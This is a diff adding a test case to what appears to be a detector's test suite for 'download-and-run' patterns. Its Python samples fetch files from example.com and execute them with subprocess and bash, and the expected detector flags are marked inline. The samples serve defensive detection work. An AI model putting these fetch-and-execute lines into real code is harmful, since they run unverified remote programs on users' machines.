@@ -220,6 +220,25 @@ describe('download-and-run of files', () => {
       `;
     });
 
+    it('nothing of a program that stands beside one that was found', () => {
+      python`
+        import os, requests, shutil, subprocess
+        from pathlib import Path
+        open("tool", "wb").write(requests.get("https://example.com/tool").content)
+        subprocess.run([str(Path(shutil.which("python")).parent / "tool")])
+        subprocess.run([os.path.join(os.path.dirname(shutil.which("python")), "tool")])
+        found = next(Path("/usr/lib").rglob("python"))
+        subprocess.run([str(found.parent / "tool")])
+        subprocess.run([str(found.with_name("tool"))])
+        subprocess.run([str(Path(__file__).parent / "tool")])
+                        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+        written = found.parent / "script.sh"
+        written.write_bytes(requests.get("https://example.com/script.sh").content)
+        subprocess.run(["bash", str(found.parent / "script.sh")])
+                                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      `;
+    });
+
     it('nothing of a pinned folder', () => {
       python`
         from huggingface_hub import snapshot_download
